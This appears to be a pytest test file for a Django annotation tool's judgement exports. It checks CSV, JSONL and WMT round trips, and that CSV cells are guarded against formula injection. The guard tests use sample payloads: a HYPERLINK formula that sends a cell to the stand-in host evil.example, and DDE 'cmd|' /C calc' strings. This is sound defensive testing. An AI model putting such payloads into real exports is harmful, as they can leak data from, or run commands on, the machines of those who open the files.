"""Raw judgement exports: each format read back gives the same data."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from datetime import datetime

import pytest
from django.core.management import call_command

from annotations.exports.judgements import csv_lines, export_lines, jsonl_lines, wmt_lines
from annotations.importing.parsers.e2e_ratings import parse_e2e_ratings
from annotations.importing.parsers.wmt import parse_wmt_csv
from annotations.importing.ratings import ratings_import
from annotations.models import Judgement
from annotations.services.campaigns import campaign_create
from annotations.services.criteria import criterion_from_preset
from tests.annotations.designer_data import judged_campaign

pytestmark = pytest.mark.django_db


def _stored(criterion):
    """The judgements as sets of plain facts, independent of ids and slots."""
    facts = set()
    for j in Judgement.objects.filter(criterion=criterion).prefetch_related(
        "scores__output__system", "scores__output__item"
    ):
        outputs = Counter(
            (s.output.system.label, s.output.text, s.score, s.coverage)
            for s in j.scores.all()
            if s.role == "regular"
        )
        facts.add(
            (
                j.worker.external_id,
                j.task.item.input,
                j.started_at.replace(microsecond=0),
                j.submitted_at.replace(microsecond=0),
                frozenset(outputs.items()),
            )
        )
    return facts


def test_csv_has_e2e_columns_and_reads_back_with_the_e2e_importer(tmp_path):
    campaign = judged_campaign()
    criterion = campaign.criteria.get()
    path = tmp_path / "quality.csv"
    path.write_text("".join(csv_lines(criterion=criterion)), encoding="utf-8")
    header = next(csv.reader(path.open()))
    for column in (
        "_unit_id",
        "_worker_id",
        "_started_at",
        "_created_at",
        "mr",
        "sys1",
        "ref5",
        "quality1",
        "quality5",
        "check1",
        "dupl_ref5",
    ):
        assert column in header
    parsed = parse_e2e_ratings(path)
    assert len(parsed.judgements) == 12
    first = min(parsed.judgements, key=lambda j: j.line)
    # Item 1's gamma and delta outputs are identical: each names the other as its twin.
    twins = {first.systems[i]: first.twins[i] for i in range(5)}
    assert twins["gamma"] and twins["delta"]

    # Import into a fresh campaign: the same judgements come back.
    copy = campaign_create(slug="copy")
    quality = criterion_from_preset(campaign=copy, preset="quality")
    result = ratings_import(campaign=copy, criterion=quality, path=path)
    assert result.judgements == 12
    assert _stored(quality) == _stored(criterion)


def test_jsonl_round_trip_keeps_full_precision():
    campaign = judged_campaign()
    criterion = campaign.criteria.get()
    judgement = Judgement.objects.filter(criterion=criterion).first()
    assert judgement is not None
    score = judgement.scores.first()
    assert score is not None
    score.score = 123.456789
    score.save(update_fields=["score"])
    records = [json.loads(line) for line in jsonl_lines(criterion=criterion)]
    assert len(records) == 12
    read_back = set()
    for r in records:
        outputs = Counter((o["system"], o["text"], o["score"], o["coverage"]) for o in r["outputs"])
        read_back.add(
            (
                r["worker_id"],
                r["input"],
                datetime.fromisoformat(r["started_at"]).replace(microsecond=0),
                datetime.fromisoformat(r["submitted_at"]).replace(microsecond=0),
                frozenset(outputs.items()),
            )
        )
    assert read_back == _stored(criterion)
    assert any(o["score"] == 123.456789 for r in records for o in r["outputs"])


def test_wmt_csv_reads_back_with_the_wmt_importer(tmp_path):
    campaign = judged_campaign()
    criterion = campaign.criteria.get()
    path = tmp_path / "ranking.csv"
    path.write_text("".join(wmt_lines(criterion=criterion)), encoding="utf-8")
    parsed = parse_wmt_csv(path)
    assert parsed.systems_per_row == 5 and parsed.skipped_unranked == 0
    got = Counter(
        (r.judge_id, r.segment_id, frozenset(zip(r.systems, r.ranks, strict=True)))
        for r in parsed.rankings
    )
    expected = Counter(
        (
            j.worker.external_id,
            j.task.item.external_id,
            frozenset((s.output.system.label, int(s.rank)) for s in j.scores.all()),
        )
        for j in Judgement.objects.filter(criterion=criterion)
    )
    assert got == expected


def test_excluded_workers_can_be_left_out():
    campaign = judged_campaign()
    criterion = campaign.criteria.get()
    campaign.workers.filter(external_id="PID0001").update(excluded=True)
    everyone = list(jsonl_lines(criterion=criterion))
    kept = list(jsonl_lines(criterion=criterion, include_excluded=False))
    assert len(everyone) == 12 and len(kept) == 8
    assert all(json.loads(line)["worker_id"] != "PID0001" for line in kept)


def test_export_reads_in_chunks_with_few_queries(django_assert_max_num_queries):
    campaign = judged_campaign(n_items=4, n_workers=3)
    criterion = campaign.criteria.get()
    # Chunks of 2 judgements: each chunk is one query for judgements and one for scores.
    with django_assert_max_num_queries(2 * 6 + 6):
        lines = list(export_lines(criterion=criterion, fmt="csv"))
    assert len(list(csv.reader(io.StringIO("".join(lines))))) == 13


def test_unknown_format_is_a_domain_error():
    from common.errors import DomainError

    campaign = judged_campaign(n_items=1, n_workers=1)
    with pytest.raises(DomainError, match="Unknown export format"):
        export_lines(criterion=campaign.criteria.get(), fmt="xml")


def test_management_command_writes_each_format(tmp_path, capsys):
    campaign = judged_campaign()
    for fmt in ("csv", "jsonl", "wmt"):
        out = tmp_path / f"out.{fmt}"
        call_command(
            "export_judgements",
            campaign.slug,
            "--criterion",
            "quality",
            "--format",
            fmt,
            "-o",
            str(out),
        )
        text = out.read_text()
        expected = "".join(export_lines(criterion=campaign.criteria.get(), fmt=fmt))
        assert text == expected
    assert "Wrote 12 rows" in capsys.readouterr().err
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="has no criterion 'nope'"):
        call_command("export_judgements", campaign.slug, "--criterion", "nope")


# Safe to open, and saying what a reader needs ----------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _csv_rows(lines):
    return list(csv.DictReader(io.StringIO("".join(lines))))


def test_csv_exports_neutralise_formula_cells_from_workers_and_outputs():
    campaign = judged_campaign(n_items=2, n_workers=2)
    criterion = campaign.criteria.get()
    campaign.workers.filter(external_id="PID0000").update(external_id=FORMULA)
    campaign.workers.filter(external_id="PID0001").update(external_id="@SUM(1+1)")
    first = campaign.systems.get(label="alpha")
    first.label = "+cmd|' /C calc'!A0"
    first.save(update_fields=["label"])
    output = first.outputs.first()
    assert output is not None
    output.text = "-2+3 said the system"
    output.save(update_fields=["text"])

    e2e = _csv_rows(csv_lines(criterion=criterion))
    wmt = _csv_rows(wmt_lines(criterion=criterion))
    assert {r["_worker_id"] for r in e2e} == {"'" + FORMULA, "'@SUM(1+1)"}
    assert {r["judgeId"] for r in wmt} == {"'" + FORMULA, "'@SUM(1+1)"}
    systems = {r[f"sys{i}"] for r in e2e for i in range(1, 6)}
    assert "'+cmd|' /C calc'!A0" in systems and "+cmd|' /C calc'!A0" not in systems
    assert "'-2+3 said the system" in {r[f"ref{i}"] for r in e2e for i in range(1, 6)}
    assert "'+cmd|' /C calc'!A0" in {r[f"system{i}Id"] for r in wmt for i in range(1, 6)}
    # No cell of either file starts a formula.
    for rows in (e2e, wmt):
        for row in rows:
            for value in row.values():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), value
                assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit()
    # Numbers stay numbers (WMT pads short rows with rank -1; scores stay numeric).
    assert all(float(r["quality1"]) > 0 for r in e2e)


def test_jsonl_keeps_worker_ids_raw():
    campaign = judged_campaign(n_items=1, n_workers=1)
    criterion = campaign.criteria.get()
    campaign.workers.update(external_id=FORMULA)
    records = [json.loads(line) for line in jsonl_lines(criterion=criterion)]
    assert {r["worker_id"] for r in records} == {FORMULA}


def test_exports_mark_excluded_and_flagged_workers():
    campaign = judged_campaign(n_items=2, n_workers=3)
    criterion = campaign.criteria.get()
    campaign.workers.filter(external_id="PID0001").update(excluded=True, exclusion_reason="bot")
    campaign.workers.filter(external_id="PID0002").update(flagged=True)
    expected = {
        "PID0000": ("false", "false"),
        "PID0001": ("true", "false"),
        "PID0002": ("false", "true"),
    }
    e2e = _csv_rows(csv_lines(criterion=criterion))
    assert {r["_worker_id"]: (r["_worker_excluded"], r["_worker_flagged"]) for r in e2e} == expected
    wmt = _csv_rows(wmt_lines(criterion=criterion))
    assert {r["judgeId"]: (r["judgeExcluded"], r["judgeFlagged"]) for r in wmt} == expected
    records = [json.loads(line) for line in jsonl_lines(criterion=criterion)]
    assert {
        r["worker_id"]: (str(r["worker_excluded"]).lower(), str(r["worker_flagged"]).lower())
        for r in records
    } == expected
    # Leaving excluded workers out still marks the flagged ones.
    kept = _csv_rows(csv_lines(criterion=criterion, include_excluded=False))
    assert {r["_worker_id"] for r in kept} == {"PID0000", "PID0002"}


def test_exports_carry_content_checks_per_output_and_the_standard():
    from annotations.models import JudgementScore

    campaign = judged_campaign(n_items=1, n_workers=1)
    criterion = campaign.criteria.get()
    criterion.standard_input = "name[Aromi], eatType[coffee shop]"
    criterion.standard_text = '=1+1, a "standard" text'
    criterion.scale_settings = {**criterion.scale_settings, "standard": 50}
    criterion.content_checks = ["added", "missing", "perfect"]
    criterion.save()
    judgement = Judgement.objects.get(criterion=criterion)
    ticked = {}
    for n, score in enumerate(judgement.scores.order_by("slot", "id")):
        checks = [["added"], ["missing", "added"], [], ["perfect"], ["missing"]][n]
        JudgementScore.objects.filter(pk=score.pk).update(checks=checks)
        ticked[score.output.system.label] = checks

    (row,) = _csv_rows(csv_lines(criterion=criterion))
    by_system = {row[f"sys{i}"]: row[f"content_checks{i}"] for i in range(1, 6)}
    assert by_system == {label: ";".join(checks) for label, checks in ticked.items()}
    assert row["_standard"] == "50"
    assert row["_standard_input"] == "name[Aromi], eatType[coffee shop]"
    assert row["_standard_text"] == "'" + '=1+1, a "standard" text'

    (record,) = [json.loads(line) for line in jsonl_lines(criterion=criterion)]
    assert {o["system"]: o["checks"] for o in record["outputs"]} == ticked
    assert record["standard"] == {
        "value": 50,
        "input": "name[Aromi], eatType[coffee shop]",
        "text": '=1+1, a "standard" text',
    }


def test_a_likert_criterion_has_no_standard():
    campaign = judged_campaign(n_items=1, n_workers=1)
    criterion = campaign.criteria.get()
    criterion.scale = "likert"
    criterion.scale_settings = {"levels": [{"value": v, "label": str(v)} for v in range(1, 6)]}
    criterion.save()
    (row,) = _csv_rows(csv_lines(criterion=criterion))
    assert (row["_standard"], row["_standard_input"], row["_standard_text"]) == ("", "", "")
    (record,) = [json.loads(line) for line in jsonl_lines(criterion=criterion)]
    assert record["standard"] is None


def test_exported_csv_still_reads_back_with_worker_formula_ids(tmp_path):
    campaign = judged_campaign(n_items=2, n_workers=1)
    criterion = campaign.criteria.get()
    campaign.workers.update(external_id=FORMULA)
    path = tmp_path / "quality.csv"
    path.write_text("".join(csv_lines(criterion=criterion)), encoding="utf-8")
    parsed = parse_e2e_ratings(path)
    assert {j.worker_id for j in parsed.judgements} == {"'" + FORMULA}


def test_a_carriage_return_inside_a_text_is_quoted_not_a_new_row():
    """A bare CR in an input or output went out unquoted (Python's writer quotes only its
    own line terminator, ``\\n``): a spreadsheet began a new row there whose first cell
    was the rest of the text (``=1+1``, past the formula guard), and a strict reader
    refused the file."""
    campaign = judged_campaign(n_items=2, n_workers=1)
    criterion = campaign.criteria.get()
    item = campaign.items.order_by("pk").first()
    assert item is not None
    campaign.items.filter(pk=item.pk).update(input="name[\r=1+1] idx 6")
    output = item.outputs.first()
    assert output is not None
    output.text = "ok\r=cmd|' /C calc'!A0"
    output.save(update_fields=["text"])
    for lines in (csv_lines(criterion=criterion), wmt_lines(criterion=criterion)):
        text = "".join(lines)
        assert all(line.count('"') % 2 == 0 for line in text.split("\n"))
        rows = list(csv.reader(io.StringIO(text), strict=True))
        assert len({len(row) for row in rows}) == 1  # no row split in two
    e2e = _csv_rows(csv_lines(criterion=criterion))
    assert "name[\r=1+1] idx 6" in {r["mr"] for r in e2e}
    assert "ok\r=cmd|' /C calc'!A0" in {r[f"ref{i}"] for r in e2e for i in range(1, 6)}
